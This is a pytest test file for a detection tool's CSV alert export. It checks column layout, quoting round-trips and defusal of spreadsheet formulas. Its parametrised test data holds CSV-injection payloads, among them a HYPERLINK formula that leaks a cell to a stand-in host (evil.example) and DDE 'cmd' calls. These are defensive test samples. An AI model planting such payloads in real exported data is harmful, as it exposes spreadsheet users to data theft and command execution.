"""CSV: fixed columns that round-trip through a CSV reader, and no formula a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json

import pytest
from detection_output_samples import render, sample_alerts

from mamori.detection.models import Alert, Level
from mamori.detection.outputs import OutputFormat
from mamori.detection.outputs.csv import COLUMNS, FORMULA_START, defuse


def _rows(alerts: list[Alert] | None = None) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render(OutputFormat.CSV, alerts), newline="")))


def test_header_is_the_fixed_column_set() -> None:
    header = render(OutputFormat.CSV).splitlines()[0]
    assert header == (
        "timestamp,level,rule_id,title,host,source_file,record_id,tactics,techniques,key,event"
    )
    assert tuple(header.split(",")) == COLUMNS


def test_rows_carry_the_alerts() -> None:
    rows = _rows()
    assert len(rows) == len(sample_alerts())
    first = rows[0]
    assert first["timestamp"] == "2024-05-01T10:01:00.123456Z"
    assert (first["level"], first["rule_id"], first["record_id"]) == ("high", "r-ps", "1")
    assert first["techniques"] == "T1059;T1059.001"
    assert json.loads(first["event"]) == {"EventID": "4688", "CommandLine": "powershell -enc AAAA"}
    assert first["key"] == sample_alerts()[0].key
    corr = next(row for row in rows if row["rule_id"] == "r-corr")
    assert (corr["timestamp"], corr["host"], corr["record_id"]) == ("", "", "")


def test_delimiters_quotes_and_newlines_round_trip() -> None:
    tricky = 'a,b "quoted"\nsecond\rline\r\n'
    alert = Alert(
        "r", tricky, Level.LOW, (), "dir, with comma/f.evtx", 4, None, tricky, {"Msg": tricky}
    )
    (row,) = _rows([alert])
    assert row["title"] == tricky
    assert row["host"] == tricky
    assert row["source_file"] == "dir, with comma/f.evtx"
    assert json.loads(row["event"]) == {"Msg": tricky}


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_formulas_from_event_data_are_defused(payload: str) -> None:
    alert = Alert(
        payload,
        payload,
        Level.HIGH,
        (f"attack.{payload}",),
        payload,
        1,
        None,
        payload,
        {"CommandLine": payload},
    )
    (row,) = _rows([alert])
    for column in ("rule_id", "title", "host", "source_file"):
        assert row[column] == "'" + payload, column
    for cell in row.values():
        assert not cell.startswith(FORMULA_START), cell
    assert json.loads(row["event"]) == {"CommandLine": payload}


def test_plain_cells_are_left_alone() -> None:
    assert defuse("powershell.exe") == "powershell.exe"
    assert defuse("") == ""
    assert defuse("a=b") == "a=b"
